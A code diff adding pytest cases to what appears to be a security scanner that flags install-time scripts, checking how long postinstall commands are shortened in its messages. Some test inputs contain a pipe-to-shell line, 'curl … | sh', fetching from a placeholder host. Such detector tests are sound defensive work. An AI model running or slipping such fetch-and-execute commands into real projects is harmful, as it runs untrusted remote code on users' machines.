@@ -81,3 +81,27 @@ def test_it_says_what_the_script_does() -> None:
 def test_credentials_in_a_command_are_masked() -> None:
     (finding,) = found(RULE, scripted("curl https://me:secret@x.invalid/"))
     assert "secret" not in finding.message
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("node setup.js", "node setup.js"),
+        (
+            f"node a.js {'--quiet ' * 20}&& curl -s https://x.invalid/i | sh",
+            "node a.js --quiet --quiet … curl -s https://x.invalid/i | sh",
+        ),
+        (
+            f"node a.js {'--quiet ' * 20}&& node the-last.js",
+            "node a.js --quiet --quiet … --quiet --quiet --quiet --quiet && node the-last.js",
+        ),
+        (
+            f"curl -s https://x.invalid/i | sh {'-s ' * 60}",
+            "curl -s https://x.invalid/i | sh -s -s -s -s -s -s -s -s -s -s -s -s -s -s -s -…",
+        ),
+    ],
+    ids=["short", "what downloads", "the end", "at its beginning"],
+)
+def test_of_a_long_command_the_part_that_tells_is_shown(command: str, shown: str) -> None:
+    (finding,) = found(RULE, scripted(command))
+    assert f'runs "{shown}" at postinstall' in finding.message
